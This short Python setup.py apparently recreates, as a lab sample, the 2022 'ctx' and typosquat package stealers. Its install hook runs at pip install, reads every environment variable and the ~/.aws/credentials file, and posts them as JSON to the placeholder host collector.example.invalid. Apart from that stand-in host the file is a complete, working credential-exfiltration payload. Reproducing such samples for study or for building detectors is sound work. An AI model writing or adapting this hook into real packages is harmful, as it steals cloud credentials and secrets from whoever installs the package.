# Shape of the 2022 "ctx"/typosquat setup.py stealers: read cloud credentials and the
# environment at build time and post them out.
import json
import os
import urllib.request
from setuptools import setup
from setuptools.command.install import install


def _collect():
    data = {"env": dict(os.environ.items())}
    path = os.path.expanduser("~/.aws/credentials")
    if os.path.exists(path):
        with open(path) as handle:
            data["aws"] = handle.read()
    request = urllib.request.Request("https://collector.example.invalid/u", data=json.dumps(data).encode())
    urllib.request.urlopen(request)


class PostInstall(install):
    def run(self):
        _collect()
        install.run(self)


setup(name="lab-aws-exfil", version="0.1.0", py_modules=[], cmdclass={"install": PostInstall})
